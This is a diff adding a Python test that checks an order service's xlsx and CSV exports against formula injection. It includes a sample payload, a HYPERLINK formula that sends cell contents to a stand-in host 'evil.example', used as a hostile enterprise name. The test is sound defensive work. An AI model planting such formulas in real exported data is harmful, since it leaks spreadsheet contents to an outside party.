@@ -2,8 +2,14 @@
 
 import csv
 import io
+from decimal import Decimal
 
 import openpyxl
+
+from order_service.models import EnterpriseOwner, db
+from xyd_testing.helpers import FORMULA_PREFIXES, csv_rows, xlsx_formulas_and_links
+
+from .support import WEIDU_CO
 
 ORDERS = "/api/v1/orders"
 
@@ -89,3 +95,39 @@ def test_the_statistics_export_equals_the_statistics(client, seeded, tokens, app
     resp = client.get(f"{ORDERS}/stats/export?format=csv&group_by=month", headers=tokens["admin"])
     header, *months = list(csv.reader(io.StringIO(resp.data.decode("utf-8").lstrip("\ufeff"))))
     assert header[0] == "月份" and sum(int(m[1]) for m in months) == 3
+
+
+def test_exports_write_hostile_names_and_purposes_as_text(app, client, seeded, tokens, apply):
+    """A name or purpose that starts like a formula is a plain text cell in .xlsx and a `'`-prefixed cell
+    in .csv (OWASP CSV injection); amounts stay numbers. The texts are stored as given."""
+    name = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
+    with app.app_context():
+        db.session.get(EnterpriseOwner, WEIDU_CO[1]).enterprise_name = name
+        db.session.commit()
+    purposes = [f"{prefix}1+2 采购原材料" for prefix in FORMULA_PREFIXES if prefix.strip()]  # input strips TAB/CR
+    orders = []
+    for purpose in purposes:  # one open application per product: each is withdrawn before the next
+        orders.append(apply(purpose=purpose))
+        assert client.post(f"{ORDERS}/{orders[-1]['id']}/withdraw", headers=tokens["weidu"]).status_code == 200
+    assert [o["purpose"] for o in orders] == purposes and orders[0]["enterprise_name"] == name
+
+    resp = client.get(f"{ORDERS}/export", headers=tokens["admin"])
+    assert xlsx_formulas_and_links(resp.data) == []
+    header, *rows = rows_of(workbook(resp)["订单"])
+    by_no = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
+    for order in orders:
+        row = by_no[order["order_no"]]
+        assert row["企业名称"] == name and row["用途"] == order["purpose"]
+        assert row["申请金额（万元）"] == 100 and row["申请期限（月）"] == 12
+
+    resp = client.get(f"{ORDERS}/export?format=csv", headers=tokens["admin"])
+    header, *rows = csv_rows(resp.data)
+    by_no = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
+    for order in orders:
+        row = by_no[order["order_no"]]
+        assert row["企业名称"] == "'" + name and row["用途"] == "'" + order["purpose"]
+        assert Decimal(row["申请金额（万元）"]) == 100 and row["申请期限（月）"] == "12"  # numbers, unprefixed
+
+    # The statistics carry institution names: the same writer.
+    resp = client.get(f"{ORDERS}/stats/export?group_by=region", headers=tokens["admin"])
+    assert resp.status_code == 200 and xlsx_formulas_and_links(resp.data) == []
